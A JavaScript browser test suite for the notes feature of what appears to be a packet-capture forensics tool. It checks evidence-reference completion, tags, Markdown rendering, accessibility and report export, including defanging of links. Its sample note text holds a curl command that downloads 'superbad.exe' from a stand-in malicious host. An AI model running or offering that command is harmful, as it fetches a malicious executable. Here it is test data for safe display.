/** Notes over the real bundle: written with completion by keys alone, tagged, filtered, read as Markdown, reported, and anchored from everywhere. */
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { test } from "node:test";
import { AxeBuilder, becomes, built, go, loaded, open, quiet } from "./browser.mjs";

async function opened(size) {
	const b = await open(built, size);
	await b.page.getByRole("button", { name: /Try the sample/ }).click();
	await loaded(b.page);
	return b;
}

async function closed(b) {
	await quiet(b);
	await b.browser.close();
}

const field = (page) => page.getByRole("textbox", { name: "Text of the note" });
const options = (page) => page.locator(".writing-list [role=option]");
const lines = (page) => page.locator(".outline-line");

/** Nothing that axe objects to. */
async function clean(page) {
	const r = await new AxeBuilder({ page }).analyze();
	assert.deepEqual(
		r.violations.map((v) => `${v.id}: ${v.nodes.map((n) => n.html.slice(0, 200))}`),
		[],
	);
}

/** A note of this text, begun with the key. */
async function write(page, text) {
	await go(page, "notes");
	await page.getByRole("heading", { level: 1, name: /Notes/i }).focus();
	await page.keyboard.press("n");
	await field(page).fill(text);
	await page.keyboard.press("Escape");
	await field(page).waitFor({ state: "detached" });
}

test("a note is written with completion by keys alone, tagged, read as Markdown, filtered and reported", async () => {
	const b = await opened();
	const { page } = b;
	await go(page, "understand/packets");
	const grid = page.locator("[role=grid]");
	await grid.focus();
	for (let i = 0; i < 3; i++) await page.keyboard.press("ArrowDown");
	await page.locator('.grid-row[aria-selected="true"]').waitFor();
	await page.getByRole("tree").waitFor();
	await page.keyboard.press("n");
	await field(page).waitFor();
	const begun = await field(page).inputValue();
	const ref = /^\[\[(p\d+)\]\] `/.exec(begun)?.[1];
	assert.ok(ref, begun);
	// The packet was captured text: set apart as code.
	assert.match(begun, /`$/);
	await page.keyboard.press("Control+End");
	await page.keyboard.press("Enter");
	await page.keyboard.press("Control+b");
	await page.keyboard.type("Beacon");
	await page.keyboard.press("ArrowRight");
	await page.keyboard.press("ArrowRight");
	await page.keyboard.type(" as in [[");
	// What was selected last comes first, and is chosen.
	await options(page).first().waitFor();
	assert.match(await options(page).first().innerText(), new RegExp(`^${ref}\\s`));
	assert.equal(await options(page).first().getAttribute("aria-selected"), "true");
	assert.equal(await field(page).getAttribute("aria-activedescendant"), await options(page).first().getAttribute("id"));
	await clean(page);
	await page.keyboard.press("Enter");
	await options(page).first().waitFor({ state: "detached" });
	assert.ok((await field(page).inputValue()).endsWith(` as in [[${ref}]]`), await field(page).inputValue());
	// A file by its name, chosen with Tab; brackets that are there are not doubled.
	await page.keyboard.type(" and [[]]");
	for (let i = 0; i < 2; i++) await page.keyboard.press("ArrowLeft");
	await page.keyboard.type("superb");
	const file = options(page).filter({ hasText: /^file:.*superbad\.exe/s });
	await file.first().waitFor();
	const chosen = page.locator(".writing-list [aria-selected=true]");
	for (let i = 0; i < 30 && !/^file:.*superbad/s.test(await chosen.innerText()); i++) await page.keyboard.press("ArrowDown");
	await page.keyboard.press("Tab");
	assert.match(await field(page).inputValue(), / and \[\[file:[0-9a-f]{12}\]\]$/);
	// What is not there can be written all the same.
	await page.keyboard.type(", [[p99999999");
	await options(page).filter({ hasText: "as typed" }).waitFor();
	await page.keyboard.press("Enter");
	// A list goes on, and ends with an empty item; Esc closes the list of tags alone.
	await page.keyboard.press("Enter");
	await page.keyboard.press("Enter");
	await page.keyboard.type("- one");
	await page.keyboard.press("Enter");
	await page.keyboard.type("two #beacon #c2/dns");
	await page.keyboard.press("Enter");
	await page.keyboard.press("Enter");
	await page.keyboard.type("<b>bold</b> [x](http://evil.test/)");
	await page.keyboard.press("Escape");
	await field(page).waitFor({ state: "detached" });
	const note = lines(page).first();
	await note.locator("strong", { hasText: "Beacon" }).waitFor();
	assert.equal(await note.locator("li").count(), 2);
	assert.deepEqual(await note.locator("a.tag").allInnerTexts(), ["#beacon", "#c2/dns"]);
	assert.equal(await note.locator("a.ref", { hasText: ref }).count(), 2);
	await note.getByText("no such packet").waitFor();
	assert.ok((await note.innerText()).includes("<b>bold</b> x (http://evil.test/)"), await note.innerText());
	assert.equal(await note.locator("b, img, a[href^=http]").count(), 0);

	// A tag that is known is completed; Enter alone ends the line.
	await write(page, "plain");
	await page.locator(".outline").focus();
	await page.keyboard.press("End");
	await page.keyboard.press("F2");
	await page.locator(".outline textarea:focus").waitFor();
	await page.keyboard.type(" #bea");
	await options(page).filter({ hasText: "#beacon" }).waitFor();
	await page.keyboard.press("Escape");
	await options(page).first().waitFor({ state: "detached" });
	assert.equal(await field(page).count(), 1, "Esc ended the note, not the list");
	await page.keyboard.type("c");
	assert.equal(await options(page).count(), 0, "what was closed opened again");
	await page.keyboard.press("Backspace");
	await page.keyboard.press("Backspace");
	await page.keyboard.press("Backspace");
	await page.keyboard.press("Backspace");
	await page.keyboard.type("x #c2");
	await options(page).filter({ hasText: "#c2/dns" }).waitFor();
	await page.keyboard.press("ArrowDown");
	await page.keyboard.press("Enter");
	assert.match(await field(page).inputValue(), /#c2\/dns $/);
	await page.keyboard.press("Escape");
	await write(page, "without a tag");

	// Tags leave those that have all of them; the address says which.
	const row = page.getByRole("group", { name: "Tags" });
	await row.getByRole("button", { name: "c2/dns, 2 entries" }).focus();
	await page.keyboard.press("Enter");
	await row.getByText("2 of 3 entries shown").waitFor();
	await row.getByRole("button", { name: "beacon, 1 entry" }).focus();
	await page.keyboard.press(" ");
	await row.getByText("1 of 3 entries shown").waitFor();
	assert.equal(await lines(page).count(), 1);
	assert.equal(decodeURIComponent(new URL(page.url()).hash.split("tag=")[1]), "c2/dns,beacon");
	await clean(page);
	await page.reload();
	await row.getByText("1 of 3 entries shown").waitFor();
	await row.getByRole("button", { name: "Clear tags" }).focus();
	await page.keyboard.press("Enter");
	await becomes(() => lines(page).count(), 3);

	// The report has the note as it is read, and its tags.
	await go(page, "report");
	const report = page.locator(".report-frame");
	await report.locator("h2").first().waitFor();
	await report.locator("strong", { hasText: /^Beacon$/ }).first().waitFor();
	await report.getByRole("heading", { name: "Tags" }).waitFor();
	await report.locator("li", { hasText: "#c2/dns: 2 entries" }).first().waitFor();
	const download = page.waitForEvent("download");
	await page.getByRole("button", { name: /Export report/ }).click();
	const html = readFileSync(await (await download).path(), "utf8");
	assert.ok(html.includes("<strong><bdi>Beacon</bdi></strong>"));
	assert.ok(html.includes('<span class="tag"><bdi>#beacon</bdi></span>'));
	assert.ok(html.includes("&lt;b&gt;bold&lt;/b&gt; x (hXXp://evil[.]test/)"));
	await closed(b);
});

test("N begins a note on whatever is selected, wherever it is", async () => {
	const b = await opened();
	const { page } = b;
	/** The reference with which a note begins that N writes now. */
	const begun = async () => {
		await page.keyboard.press("n");
		await field(page).waitFor();
		const text = await field(page).inputValue();
		await page.keyboard.press("Escape");
		await field(page).waitFor({ state: "detached" });
		return text.split("]]")[0].slice(2);
	};
	const table = async (tab) => {
		await go(page, `understand/${tab}`);
		const grid = page.locator("[role=grid]");
		await grid.focus();
		await page.locator(".grid-row").first().waitFor();
		await page.keyboard.press("ArrowDown");
		await page.locator('.grid-row[aria-selected="true"]').waitFor();
		await page.waitForTimeout(300);
	};
	await table("packets");
	assert.match(await begun(), /^p\d+$/);
	// A field of the tree, then bytes: those of the field, and those marked with Shift.
	await table("packets");
	await page.getByRole("tree").waitFor();
	await page.keyboard.press("Enter");
	for (let i = 0; i < 3; i++) await page.keyboard.press("ArrowDown");
	await page.keyboard.press("ArrowRight");
	assert.match(await begun(), /^p\d+(:[a-z0-9_.]+)?$/);
	await table("packets");
	await page.getByRole("tree").waitFor();
	await page.locator(".hex").focus();
	for (let i = 0; i < 3; i++) await page.keyboard.press("ArrowRight");
	assert.match(await begun(), /^p\d+@\d+\+\d+$/);
	await table("packets");
	await page.getByRole("tree").waitFor();
	await page.locator(".hex").focus();
	await page.keyboard.press("ArrowDown");
	for (let i = 0; i < 3; i++) await page.keyboard.press("Shift+ArrowRight");
	await page.getByText("4 bytes marked").waitFor();
	assert.match(await begun(), /^p\d+@\d+\+4$/);
	await go(page, "understand/follow?flow=A:tcp:1");
	await page.locator(".stream").waitFor();
	assert.equal(await begun(), "tcp:1");
	await table("files");
	assert.match(await begun(), /^file:[0-9a-f]{12}$/);
	await table("hosts");
	assert.match(await begun(), /^h:[0-9a-f.:]+$/);
	await table("requests");
	assert.match(await begun(), /^p\d+$/);
	await table("conversations");
	assert.match(await begun(), /^(tcp|udp):\d+$/);
	await go(page, "understand/findings");
	await page.locator(".finding").first().waitFor();
	for (const group of await page.locator("details.finding-group").all()) await group.evaluate((d) => d.setAttribute("open", ""));
	await page.locator(".finding").first().getByRole("button", { name: "Confirm" }).focus();
	assert.match(await begun(), /^F-[0-9a-f]+$/);
	await go(page, "understand/timeline");
	const lane = page.locator(".lane canvas, .lane [tabindex='0']").first();
	await lane.waitFor();
	await lane.focus();
	for (let i = 0; i < 4; i++) await page.keyboard.press("Shift+ArrowRight");
	const range = await begun();
	assert.match(range, /^t:\d{4}-\d\d-\d\dT[\d:.]+Z\.\.\d{4}-\d\d-\d\dT[\d:.]+Z$/);
	// It leads back to the range.
	await lines(page).last().locator("a.ref").first().waitFor();
	// Nothing selected: an empty note.
	await go(page, "issue");
	await page.getByRole("heading", { level: 1 }).focus();
	await page.keyboard.press("n");
	await field(page).waitFor();
	assert.equal(await field(page).inputValue(), "");
	await page.keyboard.press("Escape");
	await closed(b);
});

test("every field in which evidence is written offers it, and takes no key while it does not", async () => {
	const b = await opened();
	const { page } = b;
	await go(page, "understand/packets");
	await page.locator("[role=grid]").focus();
	await page.keyboard.press("ArrowDown");
	await page.getByRole("tree").waitFor();
	await page.keyboard.press("e");
	const comment = page.getByRole("textbox", { name: /^Comment on/ });
	await comment.waitFor();
	await comment.focus();
	await page.keyboard.type("see [[");
	await options(page).first().waitFor();
	const box = page.getByRole("combobox", { name: /^Comment on/ });
	assert.equal(await box.getAttribute("aria-expanded"), "true");
	await clean(page);
	await page.keyboard.press("ArrowDown");
	await page.keyboard.press("ArrowUp");
	await page.keyboard.press("Enter");
	assert.match(await comment.inputValue(), /^see \[\[p\d+\]\]$/);
	await page.keyboard.type(" #seen");
	await page.keyboard.press("Tab");
	assert.notEqual(await page.evaluate(() => document.activeElement.getAttribute("aria-label")), await comment.getAttribute("aria-label"), "Tab was taken");
	for (const [step, name] of [
		["report", "Your conclusion"],
		["actions", "What went well"],
	]) {
		await go(page, step);
		const f = page.getByRole("textbox", { name });
		await f.focus();
		await page.keyboard.type("one");
		await page.keyboard.press("Enter");
		await page.keyboard.type("[[p");
		await options(page).first().waitFor();
		await page.keyboard.press("Enter");
		assert.match(await f.inputValue(), /^one\n\[\[.*p.*\]\]$/);
	}
	await go(page, "notes");
	await page.getByRole("group", { name: "Tags" }).getByRole("button", { name: "seen, 1 entry" }).waitFor();
	await closed(b);
});

for (const theme of ["light", "dark"])
	for (const [width, height] of [
		[1440, 900],
		[320, 700],
	])
		test(`notes have their room and pass the checks in ${theme} at ${width}`, async () => {
			const b = await opened({ theme, width, height });
			const { page } = b;
			await write(page, "# What we know\n\nHost [[h:192.168.100.23]] **fetched** it, see `GET /superbad.exe` #malware\n\n1. first [[p12]]\n   - inner #c2/dns\n2. second\n\n> said by the help desk\n\n```\ncurl http://bad.example.com/superbad.exe --output a-very-long-name-of-a-file-that-does-not-fit-into-one-line.exe\n```\n\n| host | when |\n|---|---|\n| [[h:192.168.100.23]] | *first* |\n");
			await write(page, "A second one #malware, [[p99999999]]");
			await lines(page).first().locator("table").waitFor();
			await clean(page);
			assert.ok((await page.evaluate(() => document.documentElement.scrollWidth)) <= width, "the page is wider than the window");
			if (process.env.SHOTS) await page.screenshot({ path: `${process.env.SHOTS}/notes-${theme}-${width}.png`, fullPage: true });
			await lines(page).last().dblclick();
			await field(page).focus();
			await page.keyboard.press("Control+End");
			await page.keyboard.type(" [[");
			await options(page).nth(2).waitFor();
			const list = await page.locator(".writing-list").boundingBox();
			assert.ok(list.x >= 0 && list.x + list.width <= width && list.y >= 0 && list.y + list.height <= height, JSON.stringify(list));
			await clean(page);
			if (process.env.SHOTS) await page.screenshot({ path: `${process.env.SHOTS}/notes-list-${theme}-${width}.png` });
			await page.keyboard.press("Escape");
			await page.keyboard.press("Escape");
			await go(page, "report");
			await page.locator(".report-frame table").first().waitFor();
			if (process.env.SHOTS) {
				await page.locator(".report-frame").getByRole("heading", { name: "Notes and pins" }).scrollIntoViewIfNeeded();
				await page.screenshot({ path: `${process.env.SHOTS}/notes-report-${theme}-${width}.png` });
			}
			await closed(b);
		});
